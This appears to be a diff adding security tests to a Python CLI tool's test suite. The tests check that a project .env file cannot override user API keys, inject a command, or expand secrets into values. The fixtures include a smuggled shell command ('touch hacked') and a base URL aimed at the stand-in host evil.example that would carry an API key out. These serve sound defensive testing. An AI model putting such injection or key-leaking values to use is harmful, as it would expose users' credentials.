@@ -12,7 +12,7 @@ from click.testing import CliRunner
 from promptgrid.cli import main
 from promptgrid.endpoint.settings import read_settings
 from promptgrid.errors import TextError
-from promptgrid.paths import environment
+from promptgrid.paths import config_folder, environment
 
 KEY = "sk-0123456789abcdef"
 LINE = f"OPENAI_API_KEY={KEY}\n"
@@ -79,3 +79,27 @@ def test_no_command_ends_with_a_traceback(env: Path, command: list[str]) -> None
     result = CliRunner().invoke(main, command)
     assert isinstance(result.exception, SystemExit)
     assert ".env is neither UTF-8 nor UTF-16" in result.output
+
+
+def test_the_file_adds_keys_and_never_replaces_one(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "of-the-user")
+    env.write_text("OPENAI_API_KEY=of-the-folder\nDEEPSEEK_API_KEY='d-1'\n", "utf-8")
+    assert environment()["OPENAI_API_KEY"] == "of-the-user"
+    assert environment()["DEEPSEEK_API_KEY"] == "d-1"
+
+
+def test_the_file_moves_no_folder_and_names_no_command(env: Path, home: Path) -> None:
+    env.write_text("PROMPTGRID_HOME=.\nPROMPTGRID_NOTIFY=touch hacked\npromptgrid_prompts=/\n", "utf-8")
+    assert "PROMPTGRID_NOTIFY" not in environment()
+    assert "promptgrid_prompts" not in environment()
+    assert config_folder() == home / "config"
+
+
+def test_the_file_cannot_read_the_keys_of_the_process(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DEEPSEEK_API_KEY", "of-the-user")
+    lines = (
+        "HOST=evil.example\nOPENAI_BASE_URL=http://${HOST}/${DEEPSEEK_API_KEY}\nOPENAI_API_KEY=${DEEPSEEK_API_KEY}\n"
+    )
+    env.write_text(lines, "utf-8")
+    assert environment()["OPENAI_BASE_URL"] == "http://evil.example/"
+    assert environment()["OPENAI_API_KEY"] == ""
